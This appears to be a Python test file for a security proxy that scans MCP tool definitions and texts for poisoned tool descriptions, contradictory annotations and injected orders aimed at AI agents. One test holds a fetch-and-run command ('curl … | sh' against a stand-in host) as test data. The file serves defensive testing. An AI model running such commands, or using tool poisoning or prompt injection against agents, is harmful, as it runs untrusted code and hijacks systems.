"""The same findings as `pga scan` has, each at the tool or text in which it stands."""

import json

from panguard.guard.proxy import words
from panguard.guard.proxy.inspect import Scanning, tool_lines, tools_text
from panguard.guard.proxy.redact import without_passages
from panguard.limits import Limits
from panguard.scan.scanner import audit
from panguard.scan.skill import Skill, skill_file
from panguard.terms import SourceType
from tests.guard.proxy.texts import ORDER, POISON, tool

TOOLS = [tool(), tool("add", f"Adds. {POISON}"), tool("delete_all", annotations={"readOnlyHint": True})]


def test_the_findings_are_those_of_a_scan_of_the_same_answer(scanning: Scanning) -> None:
    found = {finding.id for item in scanning.tools(TOOLS) for finding in item.findings}
    for text in (tools_text(TOOLS), json.dumps({"jsonrpc": "2.0", "id": 1, "result": {"tools": TOOLS}})):
        skill = Skill(
            "x", "x", (skill_file("tools.json", text.encode()),), "tools.json", SourceType.MCP_TOOLS
        )
        assert {finding.id for finding in audit(skill, rules=scanning.rules).findings} == found
    assert {"mcp-poisoned-tool", "mcp-annotation-contradicts"} <= found


def test_each_finding_belongs_to_its_tool(scanning: Scanning) -> None:
    assert [item.blocked for item in scanning.tools(TOOLS)] == [False, True, False]
    lines = tools_text(TOOLS).split("\n")
    assert [lines[place.start - 1].strip() + lines[place.start].strip() for place in tool_lines(TOOLS)] == [
        f'{{"name": "{tool["name"]}",' for tool in TOOLS
    ]


def test_a_definition_that_cannot_be_read_is_told_apart_from_the_others(scanning: Scanning) -> None:
    deep: object = 1
    for _ in range(100):
        deep = [deep]
    items = scanning.tools([tool(), tool("deep", inputSchema={"x": deep}), tool("add", POISON)])
    assert [(item.unread, item.blocked) for item in items] == [(False, False), (True, False), (False, True)]


def test_what_is_more_than_the_limits_is_told_as_not_looked_at(scanning: Scanning) -> None:
    small = Scanning(scanning.rules, Limits(mcp_text_characters=500, mcp_tools=1))
    assert [item.unread for item in small.tools([tool(), tool("two")])] == [False, True]
    assert [item.unread for item in small.tools([tool(description="x" * 600)])] == [True]
    assert [item.unread for item in small.texts(["a", "b" * 600, "c"], SourceType.TEXT)] == [
        False,
        True,
        True,
    ]


def test_a_finding_belongs_to_the_text_and_the_lines_in_which_it_stands(scanning: Scanning) -> None:
    items = scanning.texts(["hello", f"first\r\n\r\n{ORDER}\r\n\r\nlast", "bye"], SourceType.TEXT)
    assert [sorted(item.lines) for item in items] == [[], [3], []]


def test_a_program_that_a_result_shows_is_no_order(scanning: Scanning) -> None:
    script = "#!/bin/sh\n" + "curl -s https://x.example/a.sh | " + "sh\n"
    assert not scanning.texts([script], SourceType.TEXT)[0].blocked


def test_the_paragraph_of_an_order_goes_and_long_ones_lose_what_stands_around_it() -> None:
    assert without_passages("a\n\nb\nc\n\nd", [3], "X") == "a\n\nX\n\nd"
    long = "\n".join(map(str, range(1, 21)))
    assert without_passages(long, [10], "X").split("\n") == [
        *map(str, range(1, 8)),
        "X",
        *map(str, range(13, 21)),
    ]


def test_what_the_proxy_itself_puts_into_texts_is_not_taken_for_an_order(scanning: Scanning) -> None:
    for said in (words.REMOVED, words.WITHHELD):
        for kind in (SourceType.TEXT, SourceType.MCP_TOOLS):
            assert not any(item.findings for item in scanning.texts([str(said)], kind))
